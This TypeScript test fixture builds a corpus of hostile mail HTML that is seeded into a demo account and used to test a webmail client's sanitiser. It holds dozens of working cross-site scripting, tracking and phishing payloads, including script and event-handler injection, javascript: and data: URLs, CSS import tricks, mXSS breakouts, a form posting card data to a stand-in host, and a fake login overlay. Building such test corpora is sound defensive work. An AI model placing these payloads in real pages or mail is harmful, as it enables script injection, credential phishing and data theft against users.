/**
 * A corpus of hostile mail HTML: every trick a sender may use to run script, navigate, submit or
 * phone home from a mail body. Each payload, if it ran, would leave a mark a test can see: a
 * request to MARKER_HOST (fetch, image, style sheet, navigation), `__xss` set on its window and on
 * the top window, or a dialog. Each body also carries a readable line, `Corpus check <id>`, that
 * must still show after sanitising. Seeded into the demo Office account's Junk folder
 * (server/seed/mail.ts) and opened one by one in Chromium by tests/mailClientHostile.spec.ts.
 */

/** The host every payload reports to; the browser tests watch it, nothing serves it. */
export const MARKER_HOST = 'xss-marker.example';
export const markerUrl = (id: string, file = 'hit') => `https://${MARKER_HOST}/${id}/${file}`;

/** Script that marks a run: a request, the frame's own flag, the top window's flag, a dialog. */
export const mark = (id: string) => `fetch('${markerUrl(id)}');window.__xss=1;try{top.__xss=1}catch(e){};try{parent.__xss=1}catch(e){};alert('${id}')`;

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

export interface HostileMail {
  id: string;
  /** What the payload tries, for the subject and the test name. */
  title: string;
  html: string;
}

/** The line that must stay readable in the sanitised body. */
export const readableLine = (id: string) => `Corpus check ${id}`;

const payloads: [id: string, title: string, html: (js: string, id: string) => string][] = [
  ['script-inline', 'inline script', (js) => `<script>${js}</script>`],
  ['script-src', 'external script', (_js, id) => `<script src="${markerUrl(id, 'a.js')}"></script>`],
  ['script-svg', 'script inside SVG', (js) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`],
  ['script-uppercase', 'mixed-case script tag', (js) => `<ScRiPt>${js}</sCrIpT><script/x>${js}</script>`],
  ['img-onerror', 'img onerror', (js) => `<img src="x" onerror="${js}"><img src=x onerror=${js.replace(/ /g, '')}>`],
  ['body-onload', 'body onload', (js) => `<body onload="${js}"><p>inside body</p></body>`],
  ['a-handlers', 'onclick and onmouseover', (js) => `<a href="https://example.com/" onclick="${js}" onmouseover="${js}">Hover or click me</a>`],
  ['svg-onload', 'svg onload', (js) => `<svg onload="${js}"><circle r="10"></circle></svg>`],
  ['details-ontoggle', 'details ontoggle', (js) => `<details open ontoggle="${js}"><summary>Details</summary>More</details>`],
  [
    'autofocus-onfocus',
    'autofocus with onfocus',
    (js) => `<input autofocus onfocus="${js}"><textarea autofocus onfocus="${js}"></textarea><select autofocus onfocus="${js}"><option>x</option></select>`,
  ],
  ['a-javascript', 'javascript: link', (js) => `<a href="javascript:${js}">Open the invoice</a>`],
  [
    'a-javascript-encoded',
    'entity-encoded and spaced javascript: links',
    (js) =>
      `<a href="&#106;avascript:${js}">one</a> <a href="jav&#x09;ascript:${js}">two</a> <a href=" &#14; javascript:${js}">three</a> <a href="JaVaScRiPt:${js}">four</a>`,
  ],
  ['a-vbscript', 'vbscript: link', () => `<a href="vbscript:msgbox(1)">Open</a>`],
  ['a-data-html', 'data:text/html link', (js) => `<a href="data:text/html;base64,${b64(`<script>${js}</script>`)}">Download</a>`],
  ['iframe-javascript', 'iframe with javascript: src', (js) => `<iframe src="javascript:${js}"></iframe>`],
  ['iframe-data', 'iframe with data: src', (js) => `<iframe src="data:text/html;base64,${b64(`<script>${js}</script>`)}"></iframe>`],
  ['iframe-srcdoc', 'iframe srcdoc', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  [
    'form-action',
    'form with javascript: action',
    (js) =>
      `<form action="javascript:${js}"><input name="password" type="password"><button>Log in</button><button formaction="javascript:${js}">Other</button></form>`,
  ],
  [
    'form-remote',
    'form posting elsewhere',
    (_js, id) => `<form action="${markerUrl(id, 'steal')}" method="post"><input name="card" value="1"><input type="submit" value="Pay"></form>`,
  ],
  ['meta-refresh-js', 'meta refresh to javascript:', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  ['meta-refresh-remote', 'meta refresh to a remote page', (_js, id) => `<meta http-equiv="refresh" content="0;url=${markerUrl(id, 'refresh')}">`],
  [
    'object-embed',
    'object and embed',
    (js, id) =>
      `<object data="javascript:${js}"></object><object data="data:text/html;base64,${b64(`<script>${js}</script>`)}"></object><embed src="${markerUrl(id, 'e.swf')}">`,
  ],
  [
    'base-href',
    'base href tricks',
    (js, id) => `<base href="javascript:${js}//"><base href="https://${MARKER_HOST}/${id}/"><a href="page">relative link</a><img src="pixel.png">`,
  ],
  [
    'svg-foreignobject',
    'SVG foreignObject',
    (js) => `<svg><foreignObject width="100" height="50"><iframe src="javascript:${js}"></iframe><img src="x" onerror="${js}"></foreignObject></svg>`,
  ],
  [
    'svg-animate-href',
    'SVG animate / set rewriting href',
    (js) =>
      `<svg><a><animate attributeName="href" values="javascript:${js}"></animate><set attributeName="href" to="javascript:${js}"></set><text x="20" y="20">Click the SVG</text></a></svg>`,
  ],
  [
    'svg-use-data',
    'SVG use of a data: document',
    (js) =>
      `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js}"/></svg>`)}#x"></use></svg>`,
  ],
  [
    'img-svg-data',
    'data:image/svg+xml image',
    (js) => `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`,
  ],
  ['math-href', 'MathML href', (js) => `<math href="javascript:${js}"><mi>x</mi></math>`],
  ['css-expression', 'CSS expression()', (js) => `<div style="width: expression(${js}); color: red">expression</div>`],
  ['css-url-javascript', 'CSS url(javascript:)', (js) => `<div style="background: url(javascript:${js}); background-image: url('javascript:${js}')">url</div>`],
  [
    'css-url-remote',
    'CSS url() tracker and escapes',
    (_js, id) =>
      `<div style="background-image: url(${markerUrl(id, 'bg.png')})">bg</div><div style="background: u\\72 l(${markerUrl(id, 'esc.png')})">esc</div><p style="list-style: url(${markerUrl(id, 'li.png')})">li</p>`,
  ],
  [
    'css-import',
    'CSS @import',
    (_js, id) =>
      `<style>@import url(${markerUrl(id, 'i.css')}); body { color: red }</style><div style="color:red;@import '${markerUrl(id, 'j.css')}'">import</div>`,
  ],
  [
    'css-behavior',
    'CSS behaviour and -moz-binding',
    (_js, id) => `<div style="behavior: url(${markerUrl(id, 'x.htc')}); -moz-binding: url(${markerUrl(id, 'x.xml')}#x)">behaviour</div>`,
  ],
  [
    'css-overlay',
    'position:fixed overlay',
    () => `<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">Your session expired, log in again</div>`,
  ],
  [
    'link-stylesheet',
    'link rel=stylesheet',
    (_js, id) => `<link rel="stylesheet" href="${markerUrl(id, 's.css')}"><link rel="import" href="${markerUrl(id, 'i.html')}">`,
  ],
  [
    'img-srcset',
    'srcset, background and poster trackers',
    (_js, id) =>
      `<img srcset="${markerUrl(id, 'a.png')} 1x"><table background="${markerUrl(id, 'b.png')}"><tr><td>t</td></tr></table><video poster="${markerUrl(id, 'c.png')}"></video><audio src="${markerUrl(id, 'd.mp3')}" autoplay></audio>`,
  ],
  ['noscript-mxss', 'noscript mXSS', (js) => `<noscript><p title="</noscript><img src=x onerror=${js.replace(/ /g, '')}>"></p></noscript>`],
  [
    'template-nesting',
    'template and math/style nesting',
    (js) =>
      `<template><script>${js}</script><img src=x onerror="${js}"></template><math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`,
  ],
  [
    'comment-breakout',
    'comment and style breakouts',
    (js) => `<!--<img src="--><img src=x onerror="${js}">--><style><img src="</style><img src=x onerror=${js.replace(/ /g, '')}>"></style>`,
  ],
  [
    'textarea-breakout',
    'textarea and title breakouts',
    (js) => `<textarea><img src=x onerror="${js}"></textarea><title><img src=x onerror="${js}"></title><xmp><img src=x onerror="${js}"></xmp>`,
  ],
];

/** The corpus as mails: the readable line first, then the payload. */
export const HOSTILE_CORPUS: HostileMail[] = payloads.map(([id, title, html]) => ({
  id,
  title,
  html: `<p>${readableLine(id)}: ${title}.</p>\n${html(mark(id), id)}\n<p>End of the message.</p>`,
}));
